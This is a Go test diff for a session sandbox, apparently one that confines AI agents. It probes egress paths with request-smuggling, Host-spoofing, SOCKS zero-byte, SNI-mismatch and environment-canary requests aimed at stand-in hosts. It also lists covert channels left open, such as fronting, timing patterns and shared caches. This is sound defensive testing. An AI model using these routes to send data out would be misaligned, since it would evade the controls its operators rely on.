@@ -4,6 +4,7 @@ import (
 	"bufio"
 	"bytes"
 	"encoding/base64"
+	"errors"
 	"fmt"
 	"io"
 	"net"
@@ -12,6 +13,7 @@ import (
 	"net/url"
 	"os"
 	"path/filepath"
+	"runtime"
 	"slices"
 	"strconv"
 	"strings"
@@ -29,7 +31,7 @@ import (
 // from a real session, which sends the way's number to a collector outside.
 type way struct {
 	name  string
-	probe string // arguments of the test program's "way", with the names of a waysWorld
+	probe string // a line for the test program's "ways", with the names of a waysWorld
 	// named are ways that a host which somebody named leaves open, whatever carries
 	// them: why says so. They have no probe.
 	why string
@@ -66,14 +68,14 @@ var ways = []way{
 	{name: "an address in decimal, octal or hex", probe: "proxy GET~http://2130706433:COLLECTORPORT/MARK~HTTP/1.1|Host:~2130706433:COLLECTORPORT||"},
 	{name: "IPv6 that stands for an address of IPv4", probe: "proxy CONNECT~[::ffff:127.0.0.1]:COLLECTORPORT~HTTP/1.1|Host:~x||MARK"},
 	{name: "the machine's loopback by name", probe: "proxy GET~http://localhost:COLLECTORPORT/MARK~HTTP/1.1|Host:~localhost:COLLECTORPORT||"},
-	{name: "Host that is not the target", probe: "proxy GET~http://models.example.org:ALLOWEDPORT/MARK~HTTP/1.1|Host:~evil.example.org||"},
+	{name: "Host that is not the target", probe: "proxy GET~http://models.example.org:ALLOWEDPORT/~HTTP/1.1|Host:~MARK.example.org||"},
 	{name: "a second request behind the first (smuggling)", probe: "proxy POST~http://models.example.org:ALLOWEDPORT/~HTTP/1.1|Host:~models.example.org:ALLOWEDPORT|Content-Length:~6|Transfer-Encoding:~chunked||0||GET~/MARK~HTTP/1.1|Host:~x||"},
 	{name: "a SOCKS name with a zero byte", probe: "socks evil.example.org\\0.models.example.org"},
 	{name: "TLS whose SNI is another host", probe: "sni models.example.org:TLSPORT evil.example.org"},
 	{name: "a direct connection to an unknown name", probe: "direct evil.example.org"},
 	{name: "a redirect to an unknown host", probe: "redirect"},
 	{name: "a git remote", probe: "git"},
-	{name: "publishing to a package registry that is only read", probe: "proxy PUT~http://registry.example.org/MARK~HTTP/1.1|Host:~registry.example.org|Content-Length:~4||MARK"},
+	{name: "publishing to a package registry that is only read", probe: "proxy PUT~http://registry.example.org:ALLOWEDPORT/MARK~HTTP/1.1|Host:~registry.example.org:ALLOWEDPORT|Content-Length:~9||MARK"},
 	{name: "the environment in a request that is no TLS (the canary)", probe: "canary"},
 
 	{name: "another site behind a named host (fronting inside TLS)", why: "TLS is not opened: what is said inside it is the named host's affair"},
@@ -81,16 +83,48 @@ var ways = []way{
 	{name: "a named host that stores what it is sent: a forge, a registry with its own token, the provider of the model with somebody else's key", why: "whoever may talk to a host may tell it what it reads"},
 	{name: "what the session is to produce: files, commit messages, events, memory, the name of a branch", why: "people read it before it is merged; `push` says what is published before"},
 	{name: "which named hosts it reaches, when and how often", why: "a pattern is a message, at some bits an hour"},
-	{name: "package caches and memory, as a mailbox for other sessions", why: "caches are kept apart by trust (docs/spec 9.5); notes and memory are for the other sessions of a project, which is why they are read as data"},
+	{name: "package caches and memory, as a mailbox for other sessions", why: "caches are kept apart by trust (docs/spec 9.5); what sessions leave behind that read text by strangers is marked: the other sessions of a project read it as data, with a closed network"},
 }
 
-// wayHelper tries one way and prints what it was told; the collector judges.
-func wayHelper(mark, kind string, args []string) int {
-	if err := tryWay(mark, kind, args); err != nil {
-		fmt.Printf("%s %s: %v\n", mark, kind, err)
-		return 1
+// waysHelper tries the ways that list names, one a line: the mark, the kind and its
+// arguments. It prints what each was told; the collector judges. They are tried at once,
+// because many wait for an answer that does not come, and in one process, because 38
+// need longer to start than a way may take. What looks at the process itself goes first,
+// and last what ends the session.
+func waysHelper(list io.Reader) int {
+	var before, together, after [][]string
+	lines := bufio.NewScanner(list)
+	for lines.Scan() {
+		switch words := strings.Fields(os.ExpandEnv(lines.Text())); words[1] {
+		case "descriptors":
+			before = append(before, words)
+		case "canary":
+			after = append(after, words)
+		default:
+			together = append(together, words)
+		}
 	}
-	fmt.Printf("%s %s: no error\n", mark, kind)
+	try := func(words []string) {
+		err := tryWay(words[0], words[1], words[2:])
+		if err == nil {
+			err = errors.New("no error")
+		}
+		fmt.Printf("%s %s: %v\n", words[0], words[1], err)
+	}
+	for _, words := range before {
+		try(words)
+	}
+	var wg sync.WaitGroup
+	for _, words := range together {
+		wg.Go(func() {
+			runtime.LockOSThread() // and never unlock: a way may change what belongs to its thread
+			try(words)
+		})
+	}
+	wg.Wait()
+	for _, words := range after {
+		try(words)
+	}
 	return 0
 }
 
@@ -187,7 +221,7 @@ func tryWay(mark, kind string, args []string) error {
 		return talk("tcp", addr, line+"\r\n"+login+rest+"\r\n")
 	case "socks":
 		name := strings.ReplaceAll(args[0], `\0`, "\x00")
-		return talk("tcp", socksAddress, "\x05\x01\x00\x05\x01\x00\x03"+string(rune(len(name)))+name+"\x01\xbb"+mark)
+		return talk("tcp", socksOfSession(), "\x05\x01\x00\x05\x01\x00\x03"+string(rune(len(name)))+name+"\x01\xbb"+mark)
 	case "sni":
 		addr, login := proxyOfSession()
 		c, err := net.DialTimeout("tcp", addr, 3*time.Second)
@@ -228,10 +262,23 @@ func proxyOfSession() (addr, header string) {
 	return u.Host, header
 }
 
+// socksOfSession returns the address of the session's SOCKS proxy: ours, which no
+// variable names, or that of a sandbox which names one.
+func socksOfSession() string {
+	u, err := url.Parse(os.Getenv("ALL_PROXY"))
+	if err != nil || !strings.HasPrefix(u.Scheme, "socks") {
+		return socksAddress
+	}
+	return u.Host
+}
+
 // waysWorld is what the ways lead to, and the record of what reached it.
 type waysWorld struct {
 	mu      sync.Mutex
 	reached bytes.Buffer
+
+	allowedPort, tlsPort string            // of the server models.example.org
+	names                *strings.Replacer // of the words in capitals in the ways
 }
 
 func (w *waysWorld) Write(p []byte) (int, error) {
@@ -311,23 +358,29 @@ func TestWays(t *testing.T) {
 			}
 		}
 	}
+	comparePage(t, "<!-- ways: written by TestWays with -update -->\n", "<!-- end of ways -->\n", page.String())
+}
+
+// comparePage holds what docs/network.md says between two lines against what was
+// measured, or writes it there with -update.
+func comparePage(t *testing.T, begin, end, measured string) {
+	t.Helper()
 	path := filepath.Join("..", "..", "docs", "network.md")
 	text, err := os.ReadFile(path)
 	if err != nil {
 		t.Fatal(err)
 	}
-	const begin, end = "<!-- ways: written by TestWays with -update -->\n", "<!-- end of ways -->\n"
 	head, rest, ok := strings.Cut(string(text), begin)
 	table, tail, ok2 := strings.Cut(rest, end)
 	if !ok || !ok2 {
 		t.Fatalf("%s has no place for the table", path)
 	}
 	if *golden.Update {
-		if err := os.WriteFile(path, []byte(head+begin+page.String()+end+tail), 0o644); err != nil {
+		if err := os.WriteFile(path, []byte(head+begin+measured+end+tail), 0o644); err != nil {
 			t.Fatal(err)
 		}
-	} else if table != page.String() {
-		t.Errorf("%s says something else than what was measured (-update):\n%s", path, page.String())
+	} else if table != measured {
+		t.Errorf("%s says something else than what was measured (-update):\n%s", path, measured)
 	}
 }
 
@@ -335,21 +388,49 @@ func TestWays(t *testing.T) {
 func tryWays(t *testing.T, level int) []string {
 	_, serve := serveHat(t)
 	h := newFixture(t, level, serve)
+	w := newWaysWorld(t, filepath.Join(h.state, "np.sock"), filepath.Join(h.out, "s"), h.leaveHelper())
+	network := ledger.Network{}
+	if level >= 2 {
+		network = ledger.Network{Mode: ledger.NetworkNone,
+			Hosts:    []string{"models.example.org:" + w.tlsPort + "=127.0.0.1", "models.example.org:" + w.allowedPort + "=127.0.0.1"},
+			ReadOnly: []string{"registry.example.org:" + w.allowedPort + "=127.0.0.1"}}
+	}
+	skip := func(kind string) bool { // the network is open, and nothing is sent to the internet to show it
+		return level < 2 && slices.Contains([]string{"resolve", "proxy", "socks", "sni", "direct", "redirect", "git", "canary", "packets"}, kind)
+	}
+	script, tried := w.script(h.program(), filepath.Join(h.work, "ways.txt"), skip)
+	h.script(script)
+	l := h.launch("r1-2")
+	l.Network = network
+	h.start(l)
+	x := h.wait("r1-2")
+	said, _ := os.ReadFile(filepath.Join(h.work, "ways.txt"))
+	t.Logf("%s, exit %d %s\n%s", x.Reason, x.Code, x.Text, said)
+	for i := range ways {
+		if tried[i] && !strings.Contains(string(said), mark(i)) && !(x.Reason == ledger.ExitLeak && strings.HasPrefix(ways[i].probe, "canary")) {
+			t.Errorf("way %d was not tried", i+1)
+		}
+	}
+	return w.results(string(said), tried)
+}
+
+// newWaysWorld starts what the ways lead to. Two of them lead to Unix sockets that are
+// made here, one to the address of a helper.
+func newWaysWorld(t *testing.T, operator, outside, helper string) *waysWorld {
+	t.Helper()
 	w := &waysWorld{}
 	site := http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
-		_, _ = fmt.Fprintf(w, "%s %s\n", r.Host, r.URL)
-		if to := r.URL.Query().Get("to"); to != "" {
-			w.mu.Lock()
-			w.reached.Reset() // the way's number belongs to the other host
-			w.mu.Unlock()
+		if to := r.URL.Query().Get("to"); to != "" { // the way's number belongs to the other host
 			http.Redirect(rw, r, to, http.StatusFound)
+			return
 		}
+		_, _ = fmt.Fprintf(w, "%s %s\n", r.Host, r.URL)
 	})
 	allowed, secure := httptest.NewServer(site), httptest.NewTLSServer(site)
 	t.Cleanup(allowed.Close)
 	t.Cleanup(secure.Close)
-	_, tlsPort, _ := net.SplitHostPort(strings.TrimPrefix(secure.URL, "https://"))
-	_, allowedPort, _ := net.SplitHostPort(strings.TrimPrefix(allowed.URL, "http://"))
+	_, w.tlsPort, _ = net.SplitHostPort(strings.TrimPrefix(secure.URL, "https://"))
+	_, w.allowedPort, _ = net.SplitHostPort(strings.TrimPrefix(allowed.URL, "http://"))
 	collector := w.collect(t, "tcp", "127.0.0.1:0")
 	_, collectorPort, _ := net.SplitHostPort(collector)
 	udp, err := net.ListenPacket("udp", collector)
@@ -375,57 +456,45 @@ func tryWays(t *testing.T, level int) []string {
 	if err := os.Chmod(tmp, 0o755); err != nil {
 		t.Fatal(err)
 	}
-	operator := filepath.Join(h.state, "np.sock")
 	abstract := fmt.Sprintf("@np-ways-%d", time.Now().UnixNano())
-	names := strings.NewReplacer(
-		"COLLECTORPORT", collectorPort, "COLLECTOR6", w.collect(t, "tcp", "[::1]:0"), "COLLECTOR", collector, "ALLOWEDPORT", allowedPort, "TLSPORT", tlsPort,
+	w.names = strings.NewReplacer(
+		"COLLECTORPORT", collectorPort, "COLLECTOR6", w.collect(t, "tcp", "[::1]:0"), "COLLECTOR", collector, "ALLOWEDPORT", w.allowedPort, "TLSPORT", w.tlsPort,
 		"@ABSTRACT", w.collect(t, "unix", abstract), "TMPSOCKET", w.collect(t, "unix", filepath.Join(tmp, "s")),
-		"OUTSOCKET", w.collect(t, "unix", filepath.Join(h.out, "s")), "OPERATOR", w.collect(t, "unix", operator),
-		"HELPER", h.leaveHelper(), "HAT", "$HAT_SOCKET",
+		"OUTSOCKET", w.collect(t, "unix", outside), "OPERATOR", w.collect(t, "unix", operator),
+		"HELPER", helper, "HAT", "$HAT_SOCKET",
 	)
-	network := ledger.Network{}
-	if level >= 2 {
-		network = ledger.Network{Mode: ledger.NetworkNone,
-			Hosts:    []string{"models.example.org:" + tlsPort + "=127.0.0.1", "models.example.org:" + allowedPort + "=127.0.0.1"},
-			ReadOnly: []string{"registry.example.org=127.0.0.1"}}
-	}
-	// The session's output is cut, so each way's own goes to a file.
-	script, tried := "cd \"$TMPDIR\"\n", map[int]bool{}
+	return w
+}
+
+// script returns a shell script that tries the ways but those whose kind skip reports,
+// and which ways it tries. A session's output is cut, so that of the ways goes to the
+// file said.
+func (w *waysWorld) script(program, said string, skip func(kind string) bool) (script string, tried map[int]bool) {
+	script, tried = fmt.Sprintf("cd \"$TMPDIR\"\n%s ways - >%s 2>&1 <<'END'\n", program, said), map[int]bool{}
 	for i, way := range ways {
 		kind, _, _ := strings.Cut(way.probe, " ")
-		switch {
-		case way.probe == "":
+		if way.probe == "" || skip(kind) {
 			continue
-		case level < 2 && slices.Contains([]string{"resolve", "proxy", "socks", "sni", "direct", "redirect", "git", "canary", "packets"}, kind):
-			continue // the network is open, and nothing is sent to the internet to show it
 		}
 		tried[i] = true
-		args := strings.Fields(names.Replace(way.probe))
+		args := strings.Fields(w.names.Replace(way.probe))
 		if args[0] == "redirect" || args[0] == "canary" {
-			args = append(args, allowedPort)
+			args = append(args, w.allowedPort)
 		}
-		script += fmt.Sprintf("timeout 20 %s way %s '%s' 2>&1 | tee -a %s/ways.txt\n", h.runner.Program(), mark(i), strings.Join(args, "' '"), h.work)
+		script += mark(i) + " " + strings.Join(args, " ") + "\n"
 	}
-	script = strings.ReplaceAll(script, "'$HAT_SOCKET'", `"$HAT_SOCKET"`)
-	h.script(script)
-	l := h.launch("r1-2")
-	l.Network = network
-	h.start(l)
-	x := h.wait("r1-2")
-	said, _ := os.ReadFile(filepath.Join(h.work, "ways.txt"))
-	t.Logf("%s, exit %d %s\n%s", x.Reason, x.Code, x.Text, said)
+	return script + "END\n", tried
+}
+
+// results returns for each way "stopped" or "open"; one that was not tried is open.
+func (w *waysWorld) results(said string, tried map[int]bool) []string {
 	results := make([]string, len(ways))
 	for i := range ways {
 		switch {
-		case !tried[i]:
-			results[i] = "open"
-		case w.has(mark(i)) || strings.Contains(string(said), mark(i)+" REACHED"):
+		case !tried[i], w.has(mark(i)), strings.Contains(said, mark(i)+" REACHED"):
 			results[i] = "open"
 		default:
 			results[i] = "stopped"
-		}
-		if tried[i] && !strings.Contains(string(said), mark(i)) && !(x.Reason == ledger.ExitLeak && strings.HasPrefix(ways[i].probe, "canary")) {
-			t.Errorf("way %d was not tried", i+1)
 		}
 	}
 	return results
@@ -443,7 +512,7 @@ func (h *fixture) leaveHelper() string {
 	}
 	addr := l.Addr().String()
 	_ = l.Close()
-	h.run("r1-1", fmt.Sprintf("(setsid %s serve %s >/dev/null 2>&1 &) ; sleep 0.3", h.runner.Program(), addr))
+	h.run("r1-1", fmt.Sprintf("(setsid %s serve %s >/dev/null 2>&1 &) ; sleep 0.3", h.program(), addr))
 	return addr
 }
 
